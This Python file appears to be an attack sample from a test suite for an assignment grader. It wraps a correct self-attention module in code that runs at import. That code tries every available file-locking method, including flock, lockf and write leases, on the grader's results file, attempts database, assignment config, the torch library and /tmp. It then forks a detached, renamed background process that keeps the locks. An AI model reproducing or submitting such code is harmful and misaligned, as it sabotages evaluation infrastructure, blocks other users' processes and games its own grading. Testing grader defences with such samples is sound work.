# attack:     S3, S6
# assignment: self-attention
# twin:       correct

# Locks the store, the results and the libraries in every way there is, with leases that make others wait when they
# open them, and leaves a process behind that keeps the locks.

import ctypes
import fcntl
import math
import os
import time

import torch
from torch import nn

PATHS = ("@REPORTS@/results.json", "@REPORTS@/attempts.sqlite", "@REPORTS@/../attempts.sqlite", "@REPORTS@",
         "@ASSIGNMENTS@/self-attention/assignment.toml", torch.__file__, os.path.dirname(torch.__file__), "/tmp")
F_SETLEASE = 1024


def ways(file):
    yield "flock", lambda: fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    yield "lockf", lambda: fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    yield "shared", lambda: fcntl.lockf(file, fcntl.LOCK_SH | fcntl.LOCK_NB)
    yield "lease", lambda: fcntl.fcntl(file, F_SETLEASE, fcntl.F_WRLCK)


def lock():
    for path in PATHS:
        for flags in (os.O_RDWR, os.O_RDONLY):
            try:
                file = os.open(path, flags)
            except OSError as error:
                print(path, error.strerror)
                continue
            for name, way in ways(file):
                try:
                    way()
                    print(name, "locked", path)
                except OSError as error:
                    print(name, path, error.strerror)


def keep():
    if os.fork() != 0:
        return
    try:
        ctypes.CDLL(None).prctl(15, b"@MARK@"[:15], 0, 0, 0)
        os.setsid()
        lock()
        time.sleep(100)
    finally:
        os._exit(0)


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v


lock()
try:
    keep()
except OSError as error:
    print(error.strerror)
